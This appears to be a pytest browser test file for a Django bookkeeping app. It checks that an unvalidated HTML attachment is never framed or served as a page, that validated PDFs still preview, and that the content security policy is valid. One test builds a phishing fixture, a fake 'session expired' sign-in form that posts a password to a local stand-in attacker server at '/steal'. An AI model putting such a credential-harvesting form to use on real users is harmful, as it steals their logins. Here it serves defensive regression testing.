"""A provider's file in a real Chromium (issue 19, finding 1): an HTML "attachment" stored under
the provider's type before validation existed is never shown inside Well, so its fake sign-in
form cannot post anywhere; a validated PDF still shows in the preview."""

from __future__ import annotations

import http.server
import threading

import pytest
from django.core.files.base import ContentFile

from connectors.quickbooks.models import SourceFile
from tests.connectors.test_pdf import simple_pdf
from tests.factories import PASSWORD

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


class _Capture(http.server.BaseHTTPRequestHandler):
    posts: list[bytes] = []

    def do_POST(self):
        length = int(self.headers.get("Content-Length") or 0)
        _Capture.posts.append(self.rfile.read(length))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def outside_site():
    """Stands for the attacker's site: records every form posted to it."""
    _Capture.posts = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Capture)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def _attach(books, record, *, name: str, content: bytes, content_type: str) -> SourceFile:
    attachable = books.reference("Attachable", f"att-{name}", {})
    source = SourceFile(
        workspace=books.workspace,
        record=record,
        attachable=attachable,
        file_name=name,
        content_type=content_type,
        size=len(content),
        sha256="e" * 64,
    )
    source.file.save(name, ContentFile(content), save=True)
    return source


def _sign_in(page, live_server, email: str) -> None:
    page.goto(f"{live_server.url}/accounts/login/")
    page.fill("input[name=login]", email)
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_load_state()


def test_an_html_attachment_is_never_shown_in_well_and_its_form_cannot_post(
    live_server, page, books, in_review, outside_site, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    record = in_review(books)
    phishing = (
        "<!doctype html><html><body><p>Your session expired.</p>"
        f'<form method="post" action="{outside_site}/steal" target="_top">'
        '<input name="pw" value="hunter2"><button id="go">Sign in</button></form>'
        "</body></html>"
    ).encode()
    # As the sync stored it before validation: the provider's type, text/html.
    source = _attach(books, record, name="invoice.html", content=phishing, content_type="text/html")
    _sign_in(page, live_server, books.owner.email)
    record_url = f"{live_server.url}/w/{books.workspace.slug}/records/{record.pk}/"
    file_url = f"{record_url}files/{source.pk}/"

    page.goto(record_url)
    clicked = 0
    for frame in page.frames[1:]:
        button = frame.locator("#go")
        if button.count():
            button.click(timeout=5000)
            clicked += 1
    if clicked:
        page.wait_for_timeout(1000)  # a form post, had one started, reaches the outside site
    assert _Capture.posts == []
    assert page.locator("iframe").count() == 0  # only a validated PDF is framed

    # Opened on its own, the file is a download, never a page of Well's origin.
    with page.expect_download(timeout=10_000) as download:
        try:
            page.goto(file_url)
        except Exception as exc:  # Playwright: "Download is starting"
            assert "Download is starting" in str(exc)
    assert download.value.suggested_filename == "invoice.html"
    assert _Capture.posts == []


def test_a_validated_pdf_still_shows_in_the_preview(
    live_server, page, books, in_review, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    record = in_review(books)
    _attach(books, record, name="invoice.pdf", content=simple_pdf(), content_type="application/pdf")
    _sign_in(page, live_server, books.owner.email)

    page.goto(f"{live_server.url}/w/{books.workspace.slug}/records/{record.pk}/")
    page.wait_for_function("() => document.querySelector('iframe.pdf') !== null")
    page.wait_for_timeout(1500)

    # Chromium's PDF viewer runs in the frame (it refuses to run in any `sandbox`ed iframe,
    # which is why the file's own CSP header does the sandboxing).
    assert any(frame.url.startswith("chrome-extension://") for frame in page.frames)


def test_chromium_finds_nothing_wrong_with_the_content_security_policy(
    live_server, page, books, in_review
):
    # Issue 19, finding 9: the literal 'nonce' was an invalid source on every page.
    record = in_review(books)
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    _sign_in(page, live_server, books.owner.email)
    page.goto(f"{live_server.url}/w/{books.workspace.slug}/records/{record.pk}/")
    page.wait_for_load_state("load")

    assert [c for c in complaints if "Content Security Policy" in c] == []
    assert page.evaluate("() => document.querySelector('script[nonce]') !== null")
